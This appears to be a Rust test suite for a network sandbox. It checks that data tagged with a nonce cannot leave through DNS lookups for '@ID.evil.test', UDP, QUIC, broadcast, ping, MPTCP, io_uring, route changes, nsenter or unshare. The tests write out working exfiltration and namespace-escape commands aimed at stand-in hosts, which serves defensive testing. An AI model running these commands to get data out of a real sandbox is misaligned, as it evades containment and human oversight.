//! Ways out that are no TCP connection to a name: datagrams, pings, raw sockets, routes, and questions for names.

use std::time::Duration;

use glee_tests::{Attempt, Bare, Outcome, World};

use super::{Reported, lab, report, seen, under};

/// The lab's name server was asked anything that carries the nonce: by the sandbox, or by the companion for it.
fn asked(w: &World, _: &Outcome) -> Option<String> {
    glee_tests::wait_until(Duration::from_millis(150), || w.lab().heard_of(w.nonce()).is_some());
    w.lab().heard_of(w.nonce())
}

fn question(words: &str) -> Attempt {
    seen(format!("PATIENCE=1 @NET {words}"), asked)
}

/// 62 letters, the nonce among them.
const LONG: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@ID";

claims! {
    question_for_an_address_is_not_forwarded => question("dns @ID.evil.test 1").reported("@ID.evil.test"),
    question_for_text_is_not_forwarded => question("dns @ID.evil.test 16").reported("@ID.evil.test"),
    question_for_nothing_is_not_forwarded => question("dns @ID.evil.test 10").reported("@ID.evil.test"),
    question_for_anything_is_not_forwarded => question("dns @ID.evil.test 255").reported("@ID.evil.test"),
    question_for_a_mail_server_is_not_forwarded => question("dns @ID.evil.test 15").reported("@ID.evil.test"),
    question_of_an_unknown_type_is_not_forwarded => question("dns @ID.evil.test 65280").reported("@ID.evil.test"),
    question_for_a_service_binding_is_not_forwarded => question("dns @ID.evil.test 65").reported("@ID.evil.test"),
    reverse_question_is_not_forwarded => question("dns @ID.in-addr.arpa 12"),
    question_of_long_labels_is_not_forwarded => seen(format!("PATIENCE=1 @NET dns {LONG}.{LONG}.{LONG}.evil.test 1"), asked),
    question_of_binary_labels_is_not_forwarded => question("dns '\\x00\\xff\\x01@ID.evil.test' 1"),
    question_over_tcp_is_not_forwarded => question("dns_tcp @ID.evil.test 16"),
    question_below_the_allowed_name_is_not_forwarded => question("dns @ID.allowed.test 16").reported("@ID.allowed.test"),
    question_below_a_wildcard_is_not_forwarded => question("dns @ID.wild.test 1; PATIENCE=1 @NET dns @ID.wild.test 16")
        .yaml("extends: restricted\nnetwork: {allow: ['*.wild.test']}\n"),
    many_questions_are_not_forwarded => question("many @ID.evil.test 300")
        .then(|w, _| assert!(report(w)["egress"].as_array().is_some_and(|rows| rows.len() <= 1000))),
    many_questions_below_a_wildcard_are_not_forwarded => question("many @ID.wild.test 300")
        .yaml("extends: restricted\nnetwork: {allow: ['*.wild.test']}\n"),
    question_to_the_hosts_name_server_is_not_heard => question("dns @ID.evil.test 1 203.0.113.53"),
    question_over_tcp_to_the_hosts_name_server_is_not_heard => question("dns_tcp @ID.evil.test 1 203.0.113.53"),
    name_lookup_by_the_library_is_not_forwarded => seen("getent hosts @ID.evil.test; getent ahosts @ID.evil.test", asked)
        .reported("@ID.evil.test"),
    connecting_below_a_wildcard_asks_only_when_it_dials => under("allow: ['*.wild.test'], deny: ['*.bad.wild.test']",
        "@NET connect @ID.bad.wild.test:80 x").reported("bad.wild.test"),

    datagram_is_not_heard => lab("@NET udp 203.0.113.20 9999 @ID"),
    datagram_to_the_allowed_name_is_not_heard => lab("@NET udp 203.0.113.10 443 @ID; \
        python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"@ID\", \
            (socket.gethostbyname(\"allowed.test\"), 443))'"),
    datagram_over_ipv6_is_not_heard => lab("@NET udp 2001:db8:1::10 9999 @ID"),
    datagram_to_the_host_is_not_heard => lab("@NET udp 203.0.113.1 9999 @ID; @NET udp 127.0.0.1 9999 @ID"),
    quic_is_not_heard => lab("@NET udp 203.0.113.20 443 '\\xc3\\x00\\x00\\x00\\x01\\x08@ID'"),
    name_server_address_takes_nothing_but_questions => lab("@NET udp 127.0.0.53 53 @ID")
        .bare(Bare::Nobody("there is no such address outside")),
    broadcast_is_not_heard => lab("python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
try: s.sendto(b\"@ID\", (\"203.0.113.255\", 9999))
except OSError as e: print(e)'"),
    ping_is_not_heard => lab("@NET ping 203.0.113.20 @ID").bare(Bare::RootOnly),
    ping_of_the_allowed_name_is_not_heard => lab("@NET ping 203.0.113.10 @ID; \
        @NET ping $(getent ahostsv4 allowed.test | head -n 1 | cut -d' ' -f1) @ID").bare(Bare::RootOnly),
    multipath_is_not_heard => lab("@A mptcp 80 @ID 203.0.113.20")
        .bare(Bare::Where("this kernel is built without MPTCP", || std::path::Path::new("/proc/sys/net/mptcp").exists())),
    fast_open_is_not_heard => lab("@A fastopen 80 @ID 203.0.113.20; @A fastopen_connect 80 @ID 203.0.113.20"),
    io_uring_is_not_heard => lab("@A uring_tcp 9999 @ID"),
    route_of_its_own_is_not_made => lab("ip link add eth9 type dummy; ip addr add 203.0.113.77/24 dev lo; \
        ip route add default dev lo; ip route add 203.0.113.0/24 dev lo; ip link set lo down; ip link set lo up; \
        @A tcp 80 @ID 203.0.113.20").bare(Bare::UserOnly),
    socket_of_the_supervisors_namespace_is_not_found => lab("for p in /proc/[0-9]*; do \
        nsenter --net=$p/ns/net @A tcp 80 @ID 203.0.113.20; done; @A tcp 80 @ID 203.0.113.20"),
    own_namespace_does_not_help => lab("unshare -Urn sh -c 'ip link set lo up; @A tcp 80 @ID 203.0.113.20'; \
        @A tcp 80 @ID 203.0.113.20"),
    servers_of_the_host_are_not_heard => lab("for p in 80 443 3128 1080 9999; do @A tcp $p @ID 127.0.0.1; \
        @A tcp $p @ID 203.0.113.1; @A tcp $p @ID 0.0.0.0; done"),
}
